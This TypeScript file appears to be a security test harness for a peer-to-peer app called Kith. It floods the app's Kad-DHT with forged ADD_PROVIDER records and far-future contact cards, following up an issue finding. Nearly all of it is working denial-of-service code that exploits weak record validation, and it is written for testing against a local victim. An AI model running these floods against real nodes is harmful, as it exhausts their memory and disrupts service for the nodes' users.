// Floods on Kith's Kad-DHT (/kith/kad/1.0.0), which every daemon serves (issue 11 finding 2).
// Messages are forged with the kad-dht wire format (@libp2p/kad-dht src/message/dht.proto:
// Message.type = 1, key = 2, record = 3, providers = 9; PeerInfo.id = 1, multiaddrs = 2;
// MessageType PUT_VALUE = 0, ADD_PROVIDER = 2) and the record format (@libp2p/record
// src/record.proto: key = 1, value = 2, timeReceived = 5), pipelined on one stream.
import { randomBytes } from 'node:crypto'
import { multiaddr } from '@multiformats/multiaddr'
import { signContactCard } from '../../src/core/identity/card.js'
import { IdentityKeyPair } from '../../src/core/identity/identity.js'
import { KITH_DHT_PROTOCOL } from '../../src/node/libp2p/node.js'
import { cardKey } from '../../src/node/card/record.js'
import { nodeCrypto, nodeRng } from '../../src/platform/node-crypto.js'
import { cat, lp, pbBytes, pbUint, utf8, writeAll } from './attacker.js'
import { hold, workers, type FloodContext } from './flood.js'
import type { Stream } from '@libp2p/interface'

const PUT_VALUE = 0
const ADD_PROVIDER = 2

/** Provider records one run sends (the issue's ≈150,000 over one connection: RSS +400 MB). */
export const DHT_PROVIDERS_MAX_RECORDS = 200_000
/** Cards one run puts, each under a fresh PeerId's key. */
export const DHT_CARDS_MAX_RECORDS = 50_000
/** Messages written to the stream at once (one write, then the muxer's backpressure). */
export const DHT_BATCH_MESSAGES = 64
/** A card's expiry in the issue: the year 3000 (ms since the epoch). */
export const FAR_FUTURE_EXPIRES_AT = BigInt(Date.UTC(3000, 0, 1))

/** Answers (PUT_VALUE echoes) are read and dropped, so the victim's writes never block. */
function drain(s: Stream): void {
  s.addEventListener('message', () => undefined)
}

/** ADD_PROVIDER for random CIDv0 multihashes, the hostile node itself as the provider (the only
 *  check kad-dht makes: @libp2p/kad-dht rpc/handlers/add-provider.js), in a loop. */
export async function dhtProviders(cx: FloodContext): Promise<void> {
  const cap = cx.smoke ? 5_000 : DHT_PROVIDERS_MAX_RECORDS
  let sent = 0
  const addr = multiaddr('/ip4/127.0.0.1/tcp/9').bytes
  await workers(cx, 2, async () => {
    const h = await cx.pool.spawn()
    const conn = await cx.pool.connect(h)
    const s = await cx.pool.stream(conn, KITH_DHT_PROTOCOL)
    drain(s)
    const provider = pbBytes(
      9,
      cat(pbBytes(1, h.node.peerId.toMultihash().bytes), pbBytes(2, addr)),
    )
    while (sent < cap && !cx.signal.aborted && s.status === 'open') {
      const batch: Uint8Array[] = []
      for (let i = 0; i < DHT_BATCH_MESSAGES && sent < cap; i++, sent++) {
        // sha2-256 multihash (0x12, 32 bytes): CID.decode reads it as a CIDv0.
        const key = cat(Uint8Array.of(0x12, 0x20), randomBytes(32))
        batch.push(lp(cat(pbUint(1, ADD_PROVIDER), pbBytes(2, key), provider)))
      }
      await writeAll(s, cat(...batch), cx.stats, cx.signal)
      cx.stats.ops += batch.length
    }
    return sent < cap
  })
  if (sent >= cap) cx.stats.note = `cap of ${cap} records reached`
  await hold(cx)
}

/** PUT_VALUE of contact cards that expire in the year 3000, each signed by a fresh identity (a
 *  card's validator checks the signer, not who puts it), all over one connection. The prekey
 *  bundle is the victim's own with the identity key swapped: verifyContactCard checks its shape
 *  and owner, not its signatures (src/core/identity/card.ts). */
export async function dhtCards(cx: FloodContext): Promise<void> {
  const cap = cx.smoke ? 1_000 : DHT_CARDS_MAX_RECORDS
  const template = cx.victim.invite.bundle
  const addrs = Array.from({ length: 16 }, (_, i) => `/ip4/10.${i}.0.1/tcp/${4000 + i}`)
  let sent = 0
  await workers(cx, 1, async () => {
    const h = await cx.pool.spawn()
    const conn = await cx.pool.connect(h)
    const s = await cx.pool.stream(conn, KITH_DHT_PROTOCOL)
    drain(s)
    while (sent < cap && !cx.signal.aborted && s.status === 'open') {
      const batch: Uint8Array[] = []
      for (let i = 0; i < DHT_BATCH_MESSAGES && sent < cap; i++, sent++) {
        const identity = IdentityKeyPair.generate(nodeCrypto, nodeRng)
        const card = signContactCard(nodeCrypto, identity, {
          addrs,
          prekeys: { ...template, identityKey: identity.publicKey },
          mailboxes: [],
          seq: 1n,
          expiresAt: FAR_FUTURE_EXPIRES_AT,
        })
        const key = cardKey(identity.peerId)
        const record = cat(
          pbBytes(1, key),
          pbBytes(2, card),
          pbBytes(5, utf8(new Date().toISOString())),
        )
        batch.push(lp(cat(pbUint(1, PUT_VALUE), pbBytes(2, key), pbBytes(3, record))))
        cx.stats.identities++
      }
      await writeAll(s, cat(...batch), cx.stats, cx.signal)
      cx.stats.ops += batch.length
      // Key generation and signing are synchronous: let the event loop breathe.
      await new Promise((r) => setImmediate(r))
    }
    return sent < cap
  })
  if (sent >= cap) cx.stats.note = `cap of ${cap} cards reached`
  await hold(cx)
}
